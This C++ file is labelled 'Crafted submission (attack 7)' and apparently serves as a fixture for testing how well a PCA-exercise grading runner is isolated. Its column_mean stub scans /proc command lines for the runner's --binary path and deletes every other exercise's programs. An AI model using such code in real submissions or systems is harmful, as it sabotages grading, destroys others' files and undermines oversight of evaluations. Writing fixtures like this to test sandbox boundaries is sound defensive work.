// Crafted submission (attack 7): deletes every other exercise's programs,
// found from the runner's --binary argument and from its own path. Its
// function is the unsolved stub.
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <system_error>
#include <vector>

#include <sys/prctl.h>
#include <sys/types.h>
#include <unistd.h>

#include "pca_projection.hpp"

#include <dlmath/errors.hpp>

namespace fs = std::filesystem;

namespace {

// The command line of every process it can see, as (pid, arguments).
std::vector<std::pair<std::string, std::vector<std::string>>> command_lines() {
    std::vector<std::pair<std::string, std::vector<std::string>>> all;
    std::error_code ec;
    for (const auto& e : fs::directory_iterator("/proc", ec)) {
        const std::string pid = e.path().filename().string();
        if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
        std::ifstream in(e.path() / "cmdline", std::ios::binary);
        std::string raw((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        std::vector<std::string> args;
        std::string cur;
        for (char c : raw) {
            if (c == '\0') {
                args.push_back(cur);
                cur.clear();
            } else {
                cur += c;
            }
        }
        all.emplace_back(pid, args);
    }
    return all;
}

// The values that follow `option` (as `option VALUE` or `option=VALUE`/`optionVALUE`) in any command line.
std::vector<std::string> option_values(const std::string& option) {
    std::vector<std::string> found;
    for (const auto& [pid, args] : command_lines()) {
        for (std::size_t i = 0; i < args.size(); ++i) {
            if (args[i] == option && i + 1 < args.size()) found.push_back(args[i + 1]);
            else if (args[i].rfind(option, 0) == 0 && args[i].size() > option.size())
                found.push_back(args[i].substr(option.size() + (args[i][option.size()] == '=' ? 1 : 0)));
        }
    }
    return found;
}

}  // namespace

namespace dlmath::exercises {

Vector column_mean(const Matrix&) {
    std::error_code ec;
    std::vector<fs::path> dirs;
    for (const std::string& binary : option_values("--binary")) dirs.push_back(fs::path(binary).parent_path());
    dirs.push_back(fs::read_symlink("/proc/self/exe", ec).parent_path());
    for (const fs::path& dir : dirs) {
        for (const auto& e : fs::directory_iterator(dir, ec)) {
            const std::string name = e.path().filename().string();
            if (name.rfind("exercise_", 0) == 0 && name.find("pca_projection") == std::string::npos) fs::remove(e.path(), ec);
        }
    }
    throw dlmath::not_implemented("column_mean");
}

Matrix pca_project(const Matrix&, const Vector&, const Matrix&) { throw dlmath::not_implemented("pca_project"); }
Matrix pca_reconstruct(const Matrix&, const Vector&, const Matrix&) { throw dlmath::not_implemented("pca_reconstruct"); }

}  // namespace dlmath::exercises
